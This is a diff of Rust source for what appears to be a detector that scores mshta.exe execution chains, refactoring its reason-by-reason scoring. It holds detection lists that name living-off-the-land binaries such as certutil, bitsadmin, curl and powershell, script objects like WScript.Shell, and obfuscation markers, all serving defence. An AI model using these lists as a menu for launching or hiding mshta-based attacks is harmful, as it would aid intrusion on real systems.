@@ -1,583 +1,525 @@
 //! Scoring: additive, explained reasons for one chain.
 //!
-//! Each reason has a stable id, fixed default points, a one-line detail and
-//! the input indexes of its evidence. The indicators come from public
-//! detection content (SigmaHQ, Elastic, Splunk, LOLBAS, Atomic Red Team;
-//! see `docs/indicators.md`); the weights are ours.
+//! Each reason has a stable id, points (the config's weight, else the
+//! catalogue's default in `reasons`), a one-line detail and the input
+//! indexes of its evidence. One function per reason family below, in the
+//! order the reasons are listed; each reads its tables (binaries, folders,
+//! tokens, ports) from `knowledge`. The weights are ours.
 
 use crate::chains::referenced_paths;
-use crate::event::{Activity, Direction};
+use crate::event::{Activity, Direction, Network};
 use crate::inventory::command_shape;
+use crate::knowledge as k;
 use crate::names::{basename, lower};
 use crate::report::Reason;
 use crate::tuning::{parse_ip, Tuning};
 use crate::view::View;
 
+/// The score's range: the sum of the reasons is clamped into it (a chain
+/// with many reasons is not "more than certain"; allowlists never make a
+/// score negative).
+const MIN_SCORE: i64 = 0;
+/// See [`MIN_SCORE`].
+const MAX_SCORE: i64 = 100;
+
+/// How many distinct names a reason's detail shows before "and N more": the
+/// detail stays one readable line; the evidence indexes list them all.
+const NAMES_SHOWN: usize = 5;
+
+/// Milliseconds per second, to show the window in seconds.
+const MS_PER_SECOND: i64 = 1000;
+
 /// Scores a chain: the clamped sum and the reasons. Follow-on activity
 /// after the window scores as late. Points come from the tuning (config
-/// weights, else the catalogue's defaults).
+/// weights, else the catalogue's defaults). The calls below fix the order
+/// reasons appear in (part of the output).
 pub(crate) fn score(v: &View, t: &Tuning) -> (i64, Vec<Reason>) {
-    let root_index: Vec<u64> = v.root.events.clone();
-    let mut reasons = Vec::new();
-    let mut add = |id: &'static str, detail: String, events: Vec<u64>| {
-        reasons.push(Reason { id: id.to_string(), points: t.points(id), detail, events });
-    };
-    let root_ev = || root_index.clone();
+    let lowered = lower(v.root.command_line.unwrap_or(""));
+    let cmd = CommandLine::new(v, &lowered);
+    let mut s = Scorer { t, root: v.root.events.clone(), reasons: Vec::new() };
 
-    add(
-        "mshta_execution",
-        format!("{} ran{}", basename(v.root.image), if v.root.inferred { " (start not seen; inferred)" } else { "" }),
-        root_ev(),
-    );
+    s.execution(v);
+    let mut script_content = s.inline_script(&cmd);
+    script_content |= s.remote_content(&cmd);
+    script_content |= s.script_objects(&cmd);
+    s.obfuscation(&cmd);
+    script_content |= s.folders(&cmd);
+    script_content |= s.targets(&cmd);
+    s.embedding(&cmd);
+    s.command_line_allowlists(&cmd);
+    s.binary_identity(v);
+    s.parent(v, &cmd);
+    s.ancestors(v);
+    s.known_good(v, &cmd);
+    s.file_written_then_run(v);
+    s.children(v);
+    s.files(v);
+    let allowed_connections = s.network(v, &cmd);
+    let lookups = Lookups::of(v, t, cmd.url_host);
+    s.allowlisted_network(allowed_connections, &lookups.allowed);
+    s.dns(lookups);
+    s.modules(v);
+    s.late_activity(v);
+    s.an1397_pattern(v, script_content);
 
-    // Command line.
-    let raw_cmd = v.root.command_line.unwrap_or("");
-    let cmd = lower(raw_cmd);
-    let mut script_content = false;
-    if let Some(handler) = ["javascript:", "vbscript:", "about:"].iter().find(|h| cmd.contains(*h)) {
-        script_content = true;
-        add("cmdline_inline_script", format!("command line runs inline script ({handler})"), root_ev());
-    }
-    let url_host = url_host(&cmd);
-    if let Some(target) = remote_target(&cmd) {
-        script_content = true;
-        let shown = url_host.map(|h| format!(" {h}")).unwrap_or_default();
-        add("cmdline_remote_target", format!("command line loads remote content ({target}{shown})"), root_ev());
-    }
-    if let Some(h) = url_host {
-        if parse_ip(h).is_some() {
-            add("cmdline_raw_ip_url", format!("the URL addresses {h} by IP"), root_ev());
+    let total: i64 = s.reasons.iter().map(|r| r.points).sum();
+    (total.clamp(MIN_SCORE, MAX_SCORE), s.reasons)
+}
+
+/// What scoring reads off the root's command line, worked out once.
+struct CommandLine<'a> {
+    /// As the telemetry gave it (allowlist patterns match this).
+    raw: &'a str,
+    /// Lower-cased: what the indicators match.
+    lower: &'a str,
+    /// The host of its first URL.
+    url_host: Option<&'a str>,
+    /// Started as a COM server.
+    embedding: bool,
+    /// Files it runs, outside inline script.
+    local_paths: Vec<&'a str>,
+}
+
+impl<'a> CommandLine<'a> {
+    fn new(v: &View<'a>, lowered: &'a str) -> CommandLine<'a> {
+        let raw = v.root.command_line.unwrap_or("");
+        let own_name = k::image_key(v.root.image);
+        // Only outside inline script (whose text names objects like
+        // `WScript.Shell`, not files), and only tokens that look like paths.
+        let local_paths = if k::inline_handler(lowered).is_some() { Vec::new() } else { referenced_paths(raw) }
+            .into_iter()
+            .filter(|p| !p.contains("://") && k::image_key(p) != own_name && !lower(p).ends_with(k::MSHTA))
+            .filter(|p| !(p.starts_with('{') && p.ends_with('}')))
+            .filter(|p| p.contains('\\') || p.contains('/'))
+            .collect();
+        CommandLine {
+            raw,
+            lower: lowered,
+            url_host: k::url_host(lowered),
+            embedding: k::has_embedding_flag(lowered),
+            local_paths,
         }
-        if t.domain_allowed(h) {
-            add("allowlisted_domain", format!("{h} is under an allowlisted domain"), root_ev());
+    }
+}
+
+struct Scorer<'t> {
+    t: &'t Tuning,
+    /// The root's start events: the evidence of command-line and lineage
+    /// reasons.
+    root: Vec<u64>,
+    reasons: Vec<Reason>,
+}
+
+/// Names with the input index that shows each.
+type Named = Vec<(String, u64)>;
+
+impl Scorer<'_> {
+    fn add(&mut self, id: &'static str, detail: String, events: Vec<u64>) {
+        self.reasons.push(Reason { id: id.to_string(), points: self.t.points(id), detail, events });
+    }
+
+    fn add_root(&mut self, id: &'static str, detail: String) {
+        let events = self.root.clone();
+        self.add(id, detail, events);
+    }
+
+    /// Adds a reason over named evidence, when there is any.
+    fn add_named(&mut self, id: &'static str, detail: impl FnOnce(String) -> String, named: &[(String, u64)]) {
+        if !named.is_empty() {
+            self.add(
+                id,
+                detail(unique(named.iter().map(|(n, _)| n.as_str()))),
+                named.iter().map(|(_, i)| *i).collect(),
+            );
         }
     }
-    let mut tokens: Vec<&str> = [
-        ("getobject", "GetObject"),
-        ("activexobject", "ActiveXObject"),
-        ("wscript.shell", "WScript.Shell"),
-        ("createobject", "CreateObject"),
-        (".run", ".Run"),
-        (".exec", ".Exec"),
-        ("eval(", "eval()"),
-        ("execute(", "Execute()"),
-        ("shell.application", "Shell.Application"),
-        ("regread", "RegRead"),
-        ("regwrite", "RegWrite"),
-    ]
-    .into_iter()
-    .filter(|(tok, _)| cmd.contains(tok))
-    .map(|(_, name)| name)
-    .collect();
-    if has_script_moniker(&cmd) {
-        tokens.push("script: moniker");
+
+    fn execution(&mut self, v: &View) {
+        let inferred = if v.root.inferred { " (start not seen; inferred)" } else { "" };
+        self.add_root("mshta_execution", format!("{} ran{inferred}", basename(v.root.image)));
     }
-    if !tokens.is_empty() {
-        script_content = true;
-        add("cmdline_script_object", format!("command line uses script objects ({})", tokens.join(", ")), root_ev());
+
+    /// `javascript:`, `vbscript:`, `about:`. Returns whether it is script
+    /// content.
+    fn inline_script(&mut self, cmd: &CommandLine) -> bool {
+        let Some(handler) = k::inline_handler(cmd.lower) else { return false };
+        self.add_root("cmdline_inline_script", format!("command line runs inline script ({handler})"));
+        true
     }
-    let mut obfuscation: Vec<&str> = [
-        ("%2", "percent-encoding"),
-        ("%3c", "percent-encoding"),
-        ("chr(", "Chr()"),
-        ("strreverse", "StrReverse"),
-        ("fromcharcode", "fromCharCode"),
-        ("^", "caret escapes"),
-    ]
-    .into_iter()
-    .filter(|(tok, _)| cmd.contains(tok))
-    .map(|(_, name)| name)
-    .collect();
-    obfuscation.dedup();
-    if !obfuscation.is_empty() {
-        add("cmdline_obfuscation", format!("command line is obfuscated ({})", obfuscation.join(", ")), root_ev());
+
+    /// A remote target, its URL host by IP, an allowlisted URL host.
+    fn remote_content(&mut self, cmd: &CommandLine) -> bool {
+        let target = k::remote_target(cmd.lower);
+        if let Some(target) = target {
+            let shown = cmd.url_host.map(|h| format!(" {h}")).unwrap_or_default();
+            self.add_root("cmdline_remote_target", format!("command line loads remote content ({target}{shown})"));
+        }
+        if let Some(h) = cmd.url_host {
+            if parse_ip(h).is_some() {
+                self.add_root("cmdline_raw_ip_url", format!("the URL addresses {h} by IP"));
+            }
+            if self.t.domain_allowed(h) {
+                self.add_root("allowlisted_domain", format!("{h} is under an allowlisted domain"));
+            }
+        }
+        target.is_some()
     }
-    if let Some(dir) = user_writable_dir(&cmd) {
-        if cmd.contains(".hta") {
+
+    fn script_objects(&mut self, cmd: &CommandLine) -> bool {
+        let tokens = k::script_objects(cmd.lower);
+        if tokens.is_empty() {
+            return false;
+        }
+        self.add_root("cmdline_script_object", format!("command line uses script objects ({})", tokens.join(", ")));
+        true
+    }
+
+    fn obfuscation(&mut self, cmd: &CommandLine) {
+        let found = k::obfuscation(cmd.lower);
+        if !found.is_empty() {
+            self.add_root("cmdline_obfuscation", format!("command line is obfuscated ({})", found.join(", ")));
+        }
+    }
+
+    /// User-writable and archive-temporary folders. An HTA in either is
+    /// script content.
+    fn folders(&mut self, cmd: &CommandLine) -> bool {
+        let mut script_content = false;
+        if let Some(dir) = k::user_writable_dir(cmd.lower) {
+            script_content = k::mentions_hta(cmd.lower);
+            self.add_root(
+                "cmdline_user_writable_path",
+                format!("command line references a user-writable folder ({dir})"),
+            );
+        }
+        if let Some(what) = k::archive_temp_dir(cmd.lower) {
             script_content = true;
+            self.add_root(
+                "cmdline_archive_temp_path",
+                format!("the HTA runs from an archive's temporary folder ({what})"),
+            );
         }
-        add("cmdline_user_writable_path", format!("command line references a user-writable folder ({dir})"), root_ev());
-    }
-    if let Some(what) = archive_temp(&cmd) {
-        script_content = true;
-        add(
-            "cmdline_archive_temp_path",
-            format!("the HTA runs from an archive's temporary folder ({what})"),
-            root_ev(),
-        );
-    }
-    let own_name = lower(basename(v.root.image)).into_owned();
-    // Files the command line runs: only outside inline script (whose text
-    // names objects like `WScript.Shell`, not files), and only tokens that
-    // look like paths.
-    let inline = ["javascript:", "vbscript:", "about:"].iter().any(|h| cmd.contains(h));
-    let local_paths: Vec<&str> = if inline { Vec::new() } else { referenced_paths(raw_cmd) }
-        .into_iter()
-        .filter(|p| !p.contains("://") && !lower(basename(p)).eq(&own_name) && !lower(p).ends_with("mshta.exe"))
-        .filter(|p| !(p.starts_with('{') && p.ends_with('}')))
-        .filter(|p| p.contains('\\') || p.contains('/'))
-        .collect();
-    if let Some(p) = local_paths.iter().find(|p| p.get(2..).is_some_and(|rest| rest.contains(':'))) {
-        script_content = true;
-        add("cmdline_alternate_data_stream", format!("runs content from an alternate data stream ({p})"), root_ev());
-    } else if let Some(p) = local_paths.iter().find(|p| {
-        let ext = lower(basename(p)).rsplit_once('.').map(|(_, e)| e.to_string()).unwrap_or_default();
-        !ext.is_empty() && !matches!(ext.as_str(), "hta" | "htm" | "html" | "mht" | "mhtml" | "exe")
-    }) {
-        script_content = true;
-        add("cmdline_non_hta_target", format!("runs a file that is not an .hta ({})", basename(p)), root_ev());
-    }
-    let embedding = cmd.contains("-embedding") || cmd.contains("/embedding");
-    if embedding {
-        add("cmdline_embedding", "started as a COM server (-Embedding)".into(), root_ev());
-    }
-    if let Some(pattern) = t.command_line_allowed(raw_cmd) {
-        add("allowlisted_command_line", format!("command line matches the allowlisted pattern {pattern:?}"), root_ev());
-    }
-    if let Some(prefix) = local_paths.iter().find_map(|p| t.hta_path_allowed(p)) {
-        add("allowlisted_hta_path", format!("the HTA is under the allowlisted folder {prefix}"), root_ev());
+        script_content
     }
 
-    // Binary identity.
-    let image = v.root.image;
-    let name = basename(image);
-    if !name.eq_ignore_ascii_case("mshta.exe") && v.root.original_file_name.is_some() {
-        add("renamed_binary", format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"), root_ev());
-    }
-    let l = lower(image);
-    if l.contains('\\') && !(l.contains("\\windows\\system32\\") || l.contains("\\windows\\syswow64\\")) {
-        add("unusual_image_path", format!("mshta runs from outside System32/SysWOW64 ({image})"), root_ev());
-    }
-
-    // Lineage.
-    let parent_image = v.parent.as_ref().and_then(|p| p.image);
-    if let Some(pimg) = parent_image {
-        let pname = lower(basename(pimg)).into_owned();
-        let parent_cmd = v.parent.as_ref().and_then(|p| p.command_line).map(lower).unwrap_or_default();
-        if let Some((id, what)) = parent_grade(&pname, &parent_cmd, embedding) {
-            add(id, format!("started by {what} ({})", basename(pimg)), root_ev());
-        }
-        if t.parent_allowed(pimg) {
-            add("allowlisted_parent", format!("{} is an allowlisted parent", basename(pimg)), root_ev());
-        }
-    }
-    let ancestors: Vec<&str> = v
-        .lineage
-        .iter()
-        .filter_map(|a| a.image)
-        .filter(|img| {
-            let n = lower(basename(img));
-            matches!(parent_grade(&n, "", false), Some(("parent_office" | "parent_wmi", _)))
-        })
-        .collect();
-    if let Some(a) = ancestors.first() {
-        add("ancestor_suspicious", format!("{} is an ancestor of the launcher", basename(a)), root_ev());
-    }
-    let parent_name = parent_image.map(|p| lower(basename(p)).into_owned()).unwrap_or_default();
-    if v.root.command_line.is_some() && t.in_baseline(&command_shape(raw_cmd), &parent_name) {
-        add(
-            "baseline_known",
-            "this command-line shape and parent are in the baseline of known-good use".into(),
-            root_ev(),
-        );
-    }
-    if t.host_allowed(v.host) {
-        add("allowlisted_host", format!("{} is an allowlisted host", v.host), root_ev());
-    }
-
-    // A file written shortly before, then run by mshta.
-    let mut follow_on = false;
-    if let Some(f) = &v.dropped_file {
-        follow_on = true;
-        let by = f.writer_image.as_deref().map(basename).unwrap_or("another process");
-        add(
-            "file_written_then_run",
-            format!("{} was written by {by} shortly before mshta ran it", basename(&f.path)),
-            vec![f.event],
-        );
-    }
-
-    // Follow-on: descendants.
-    let (mut lolbins, mut others, mut late_events, mut executed, mut user_folder) =
-        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
-    for m in &v.members {
-        let first = m.events.first().copied().unwrap_or(0);
-        if m.late {
-            late_events.push(first);
-            continue;
-        }
-        follow_on = true;
-        let name = lower(basename(m.image)).into_owned();
-        if m.executed_file {
-            executed.push((name.clone(), first));
-        }
-        let path = lower(m.image);
-        if path.contains("\\users\\") || path.contains("\\windows\\temp\\") || path.contains("\\programdata\\") {
-            user_folder.push((name.clone(), first));
-        }
-        if LOLBINS.contains(&name.as_str()) {
-            lolbins.push((name, first));
+    /// The file mshta runs: from an alternate data stream, or not an HTA.
+    fn targets(&mut self, cmd: &CommandLine) -> bool {
+        // `C:\x\file.txt:payload.hta`: a colon after the drive's.
+        if let Some(p) = cmd.local_paths.iter().find(|p| p.get(2..).is_some_and(|rest| rest.contains(':'))) {
+            self.add_root("cmdline_alternate_data_stream", format!("runs content from an alternate data stream ({p})"));
+            true
+        } else if let Some(p) = cmd.local_paths.iter().find(|p| !k::is_hta_like(p)) {
+            self.add_root("cmdline_non_hta_target", format!("runs a file that is not an .hta ({})", basename(p)));
+            true
         } else {
-            others.push((name, first));
+            false
         }
-    }
-    let names = |v: &[(String, u64)]| unique(v.iter().map(|(n, _)| n.as_str()));
-    let evs = |v: &[(String, u64)]| v.iter().map(|(_, i)| *i).collect::<Vec<u64>>();
-    if !lolbins.is_empty() {
-        add("child_shell_or_lolbin", format!("spawned {}", names(&lolbins)), evs(&lolbins));
-    }
-    if !others.is_empty() {
-        add("child_process", format!("spawned {}", names(&others)), evs(&others));
-    }
-    if !user_folder.is_empty() {
-        add(
-            "child_in_user_folder",
-            format!("ran {} from a user-writable folder", names(&user_folder)),
-            evs(&user_folder),
-        );
-    }
-    if !executed.is_empty() {
-        add("written_file_executed", format!("ran a file the chain wrote ({})", names(&executed)), evs(&executed));
     }
 
-    // Follow-on: files, network, DNS, modules.
-    let (mut files, mut dropped, mut startup) = (Vec::new(), Vec::new(), Vec::new());
-    let (mut public, mut private, mut allowed_net, mut odd_ports, mut dcom) =
-        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
-    let (mut dns, mut dns_allowed, mut dns_match, mut clr) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
-    for a in &v.acts {
-        let first = a.events[0];
-        if a.late {
-            if !matches!(a.what, Activity::ImageLoad { .. }) {
-                late_events.push(first);
-            }
-            continue;
+    fn embedding(&mut self, cmd: &CommandLine) {
+        if cmd.embedding {
+            self.add_root("cmdline_embedding", "started as a COM server (-Embedding)".into());
         }
-        match a.what {
-            Activity::FileCreate { path } => {
-                follow_on = true;
-                let l = lower(path);
-                if l.contains("\\start menu\\programs\\startup\\") {
-                    startup.push((basename(path).to_string(), first));
-                } else if suspicious_file(&l) && !routine_file(&l) {
-                    dropped.push((basename(path).to_string(), first));
-                } else {
-                    files.push(first);
-                }
+    }
+
+    fn command_line_allowlists(&mut self, cmd: &CommandLine) {
+        if let Some(pattern) = self.t.command_line_allowed(cmd.raw) {
+            let detail = format!("command line matches the allowlisted pattern {pattern:?}");
+            self.add_root("allowlisted_command_line", detail);
+        }
+        if let Some(prefix) = cmd.local_paths.iter().find_map(|p| self.t.hta_path_allowed(p)) {
+            let detail = format!("the HTA is under the allowlisted folder {prefix}");
+            self.add_root("allowlisted_hta_path", detail);
+        }
+    }
+
+    /// A renamed or relocated mshta.
+    fn binary_identity(&mut self, v: &View) {
+        let image = v.root.image;
+        let name = basename(image);
+        if !name.eq_ignore_ascii_case(k::MSHTA) && v.root.original_file_name.is_some() {
+            self.add_root("renamed_binary", format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"));
+        }
+        if k::outside_system_dirs(image) {
+            self.add_root("unusual_image_path", format!("mshta runs from outside System32/SysWOW64 ({image})"));
+        }
+    }
+
+    fn parent(&mut self, v: &View, cmd: &CommandLine) {
+        let Some(parent) = v.parent.as_ref() else { return };
+        let Some(image) = parent.image else { return };
+        if let Some((id, what)) = parent_family(image, parent.command_line.unwrap_or(""), cmd.embedding) {
+            self.add_root(id, format!("started by {what} ({})", basename(image)));
+        }
+        if self.t.parent_allowed(image) {
+            self.add_root("allowlisted_parent", format!("{} is an allowlisted parent", basename(image)));
+        }
+    }
+
+    /// An Office application or WMI above the parent.
+    fn ancestors(&mut self, v: &View) {
+        let first = v.lineage.iter().filter_map(|a| a.image).find(|img| k::is_office(img) || k::is_wmi_host(img));
+        if let Some(a) = first {
+            self.add_root("ancestor_suspicious", format!("{} is an ancestor of the launcher", basename(a)));
+        }
+    }
+
+    /// The baseline of known-good use and allowlisted hosts.
+    fn known_good(&mut self, v: &View, cmd: &CommandLine) {
+        let parent_name =
+            v.parent.as_ref().and_then(|p| p.image).map(|p| k::image_key(p).into_owned()).unwrap_or_default();
+        if v.root.command_line.is_some() && self.t.in_baseline(&command_shape(cmd.raw), &parent_name) {
+            self.add_root(
+                "baseline_known",
+                "this command-line shape and parent are in the baseline of known-good use".into(),
+            );
+        }
+        if self.t.host_allowed(v.host) {
+            self.add_root("allowlisted_host", format!("{} is an allowlisted host", v.host));
+        }
+    }
+
+    /// A file written shortly before, then run by mshta.
+    fn file_written_then_run(&mut self, v: &View) {
+        if let Some(f) = &v.dropped_file {
+            let by = f.writer_image.as_deref().map(basename).unwrap_or("another process");
+            let detail = format!("{} was written by {by} shortly before mshta ran it", basename(&f.path));
+            self.add("file_written_then_run", detail, vec![f.event]);
+        }
+    }
+
+    /// Descendants inside the window.
+    fn children(&mut self, v: &View) {
+        let (mut lolbins, mut others, mut executed, mut user_folder) =
+            (Named::new(), Named::new(), Named::new(), Named::new());
+        for m in v.members.iter().filter(|m| !m.late) {
+            let first = m.events.first().copied().unwrap_or(0);
+            let name = k::image_key(m.image).into_owned();
+            if m.executed_file {
+                executed.push((name.clone(), first));
             }
-            Activity::Network(n) => {
-                follow_on = true;
-                let remote = n.remote_ip().unwrap_or("");
-                let remote_port = match n.direction {
+            if k::in_user_writable_tree(m.image) {
+                user_folder.push((name.clone(), first));
+            }
+            if k::is_shell_or_lolbin(&name) {
+                lolbins.push((name, first));
+            } else {
+                others.push((name, first));
+            }
+        }
+        self.add_named("child_shell_or_lolbin", |n| format!("spawned {n}"), &lolbins);
+        self.add_named("child_process", |n| format!("spawned {n}"), &others);
+        self.add_named("child_in_user_folder", |n| format!("ran {n} from a user-writable folder"), &user_folder);
+        self.add_named("written_file_executed", |n| format!("ran a file the chain wrote ({n})"), &executed);
+    }
+
+    /// Files written inside the window: into Startup, executable or script
+    /// content, anything else.
+    fn files(&mut self, v: &View) {
+        let (mut startup, mut dropped, mut other) = (Named::new(), Named::new(), Vec::new());
+        for a in v.acts.iter().filter(|a| !a.late) {
+            let Activity::FileCreate { path } = a.what else { continue };
+            let first = a.events[0];
+            if k::is_startup_path(path) {
+                startup.push((basename(path).to_string(), first));
+            } else if k::is_risky_file(path) {
+                dropped.push((basename(path).to_string(), first));
+            } else {
+                other.push(first);
+            }
+        }
+        self.add_named("file_in_startup", |n| format!("wrote into a Startup folder ({n})"), &startup);
+        self.add_named(
+            "file_dropped_executable",
+            |n| format!("wrote executables, scripts or archives ({n})"),
+            &dropped,
+        );
+        if !other.is_empty() {
+            self.add("file_created", format!("created {} other file(s)", other.len()), other);
+        }
+    }
+
+    /// Connections inside the window: public (and on which ports), DCOM
+    /// activation, internal. Returns the allowlisted ones, which
+    /// `allowlisted_network` reports with the allowlisted lookups.
+    fn network(&mut self, v: &View, cmd: &CommandLine) -> Named {
+        let (mut public, mut odd_ports, mut dcom, mut internal, mut allowed) =
+            (Named::new(), Named::new(), Named::new(), Vec::new(), Named::new());
+        for a in v.acts.iter().filter(|a| !a.late) {
+            let Activity::Network(n) = a.what else { continue };
+            let first = a.events[0];
+            let remote = n.remote_ip().unwrap_or("");
+            if cmd.embedding && is_dcom_activation(n) {
+                dcom.push((remote.to_string(), first));
+            }
+            if self.t.network_allowed(remote) || n.dst_host.as_deref().is_some_and(|h| self.t.domain_allowed(h)) {
+                allowed.push((remote.to_string(), first));
+            } else if remote.is_empty() || k::is_internal_ip(remote) {
+                internal.push(first);
+            } else {
+                let port = match n.direction {
                     Direction::Inbound => n.src_port,
                     _ => n.dst_port,
                 };
-                if embedding
-                    && n.direction == Direction::Inbound
-                    && n.src_port.unwrap_or(0) > 49151
-                    && n.dst_port.unwrap_or(0) > 49151
-                {
-                    dcom.push((remote.to_string(), first));
+                if let Some(port) = port.filter(|&p| !k::is_web_port(p)) {
+                    odd_ports.push((format!("{remote}:{port}"), first));
                 }
-                if t.network_allowed(remote) || n.dst_host.as_deref().is_some_and(|h| t.domain_allowed(h)) {
-                    allowed_net.push((remote.to_string(), first));
-                } else if remote.is_empty() || is_internal_ip(remote) {
-                    private.push(first);
-                } else {
-                    if !matches!(remote_port, Some(80 | 443) | None) {
-                        odd_ports.push((format!("{remote}:{}", remote_port.unwrap_or(0)), first));
-                    }
-                    public.push((remote.to_string(), first));
-                }
-            }
-            Activity::Dns { query } => {
-                follow_on = true;
-                let q = lower(query);
-                if t.domain_allowed(&q) {
-                    dns_allowed.push((q.to_string(), first));
-                } else {
-                    if url_host.is_some_and(|h| h == q.trim_end_matches('.')) {
-                        dns_match.push((q.to_string(), first));
-                    }
-                    dns.push((q.to_string(), first));
-                }
-            }
-            Activity::ImageLoad { path } => {
-                let n = lower(basename(path));
-                if matches!(n.as_ref(), "clr.dll" | "clrjit.dll" | "mscoree.dll" | "mscoreei.dll" | "mscorlib.ni.dll") {
-                    clr.push((n.into_owned(), first));
-                }
+                public.push((remote.to_string(), first));
             }
         }
-    }
-    if !startup.is_empty() {
-        add("file_in_startup", format!("wrote into a Startup folder ({})", names(&startup)), evs(&startup));
-    }
-    if !dropped.is_empty() {
-        add(
-            "file_dropped_executable",
-            format!("wrote executables, scripts or archives ({})", names(&dropped)),
-            evs(&dropped),
-        );
-    }
-    if !files.is_empty() {
-        add("file_created", format!("created {} other file(s)", files.len()), files);
-    }
-    if !public.is_empty() {
-        add("network_public", format!("connected to public address(es) {}", names(&public)), evs(&public));
-    }
-    if !odd_ports.is_empty() {
-        add("network_unusual_port", format!("used non-web ports ({})", names(&odd_ports)), evs(&odd_ports));
-    }
-    if !dcom.is_empty() {
-        add(
+        self.add_named("network_public", |n| format!("connected to public address(es) {n}"), &public);
+        self.add_named("network_unusual_port", |n| format!("used non-web ports ({n})"), &odd_ports);
+        self.add_named(
             "dcom_inbound",
-            format!("received inbound high-port connections as a COM server (from {})", names(&dcom)),
-            evs(&dcom),
+            |n| format!("received inbound high-port connections as a COM server (from {n})"),
+            &dcom,
         );
+        if !internal.is_empty() {
+            self.add(
+                "network_internal",
+                format!("made {} internal or loopback connection(s)", internal.len()),
+                internal,
+            );
+        }
+        allowed
     }
-    if !private.is_empty() {
-        add("network_internal", format!("made {} internal or loopback connection(s)", private.len()), private);
-    }
-    if !allowed_net.is_empty() || !dns_allowed.is_empty() {
-        let mut all = allowed_net.clone();
-        all.extend(dns_allowed.iter().cloned());
-        add(
+
+    fn allowlisted_network(&mut self, mut connections: Named, lookups: &[(String, u64)]) {
+        connections.extend(lookups.iter().cloned());
+        let count = connections.len();
+        self.add_named(
             "allowlisted_network",
-            format!("{} connection(s) or lookup(s) to allowlisted networks or domains ({})", all.len(), names(&all)),
-            evs(&all),
+            |n| format!("{count} connection(s) or lookup(s) to allowlisted networks or domains ({n})"),
+            &connections,
         );
     }
-    if !dns.is_empty() {
-        add("dns_query", format!("looked up {}", names(&dns)), evs(&dns));
-    }
-    if !dns_match.is_empty() {
-        add(
+
+    fn dns(&mut self, lookups: Lookups) {
+        self.add_named("dns_query", |n| format!("looked up {n}"), &lookups.queries);
+        self.add_named(
             "dns_matches_cmdline_host",
-            format!("looked up the command line's URL host {}", names(&dns_match)),
-            evs(&dns_match),
-        );
-    }
-    if !clr.is_empty() {
-        add("clr_loaded", format!("loaded the .NET runtime ({})", names(&clr)), evs(&clr));
-    }
-    if !late_events.is_empty() {
-        late_events.sort_unstable();
-        add(
-            "late_activity",
-            format!("{} follow-on event(s) after the {}-second window", late_events.len(), v.window_ms / 1000),
-            late_events,
-        );
-    }
-    if script_content && follow_on {
-        add(
-            "an1397_pattern",
-            "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(),
-            root_index,
+            |n| format!("looked up the command line's URL host {n}"),
+            &lookups.url_host,
         );
     }
 
-    let total: i64 = reasons.iter().map(|r| r.points).sum();
-    (total.clamp(0, 100), reasons)
-}
-
-/// The host of the first http(s)/ftp URL in a command line.
-fn url_host(cmd: &str) -> Option<&str> {
-    let start =
-        ["https://", "http://", "ftps://", "ftp://"].iter().filter_map(|s| cmd.find(s).map(|i| i + s.len())).min()?;
-    let rest = &cmd[start..];
-    let end = rest.find(['/', ':', '"', '\'', ')', ' ', '?', '#', '\\']).unwrap_or(rest.len());
-    let host = &rest[..end];
-    let host = host.rsplit('@').next().unwrap_or(host);
-    (!host.is_empty()).then_some(host)
-}
-
-fn archive_temp(cmd: &str) -> Option<&'static str> {
-    [
-        ("\\temp\\7z", "7-Zip"),
-        ("\\temp\\rar$", "WinRAR"),
-        ("\\temp\\temp1_", "Windows zip"),
-        ("\\temp\\temp2_", "Windows zip"),
-        (".zip\\", "zip"),
-        ("\\temp\\bnz.", "archive"),
-    ]
-    .into_iter()
-    .find(|(needle, _)| cmd.contains(needle))
-    .map(|(_, name)| name)
-}
-
-/// Shells, script hosts and living-off-the-land binaries public rules flag
-/// as children of mshta.
-const LOLBINS: &[&str] = &[
-    "cmd.exe",
-    "powershell.exe",
-    "pwsh.exe",
-    "wscript.exe",
-    "cscript.exe",
-    "rundll32.exe",
-    "regsvr32.exe",
-    "certutil.exe",
-    "bitsadmin.exe",
-    "curl.exe",
-    "msiexec.exe",
-    "schtasks.exe",
-    "reg.exe",
-    "sc.exe",
-    "mshta.exe",
-    "msbuild.exe",
-    "wmic.exe",
-    "bash.exe",
-    "sh.exe",
-    "nslookup.exe",
-    "csc.exe",
-    "vbc.exe",
-    "msdt.exe",
-    "odbcconf.exe",
-    "installutil.exe",
-    "regasm.exe",
-    "regsvcs.exe",
-    "forfiles.exe",
-    "hh.exe",
-    "wmiprvse.exe",
-];
-
-fn remote_target(cmd: &str) -> Option<&'static str> {
-    if cmd.contains("http://") || cmd.contains("https://") {
-        return Some("http");
+    /// The .NET runtime loaded inside the window.
+    fn modules(&mut self, v: &View) {
+        let clr: Named = v
+            .acts
+            .iter()
+            .filter(|a| !a.late)
+            .filter_map(|a| match a.what {
+                Activity::ImageLoad { path } if k::is_clr_module(path) => {
+                    Some((k::image_key(path).into_owned(), a.events[0]))
+                }
+                _ => None,
+            })
+            .collect();
+        self.add_named("clr_loaded", |n| format!("loaded the .NET runtime ({n})"), &clr);
     }
-    if cmd.contains("ftp://") || cmd.contains("ftps://") {
-        return Some("ftp");
+
+    /// Processes and activity after the window (module loads aside).
+    fn late_activity(&mut self, v: &View) {
+        let mut late: Vec<u64> =
+            v.members.iter().filter(|m| m.late).map(|m| m.events.first().copied().unwrap_or(0)).collect();
+        late.extend(
+            v.acts.iter().filter(|a| a.late && !matches!(a.what, Activity::ImageLoad { .. })).map(|a| a.events[0]),
+        );
+        if !late.is_empty() {
+            late.sort_unstable();
+            let detail =
+                format!("{} follow-on event(s) after the {}-second window", late.len(), v.window_ms / MS_PER_SECOND);
+            self.add("late_activity", detail, late);
+        }
     }
-    if cmd.contains("@ssl") || cmd.contains("davwwwroot") {
-        return Some("WebDAV");
+
+    /// The whole analytic: script content on the command line, then
+    /// follow-on activity inside the window.
+    fn an1397_pattern(&mut self, v: &View, script_content: bool) {
+        if script_content && has_follow_on(v) {
+            self.add_root(
+                "an1397_pattern",
+                "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(),
+            );
+        }
     }
-    // UNC: `\\host\share`, but not the `\\?\` and `\\.\` device prefixes.
-    let b = cmd.as_bytes();
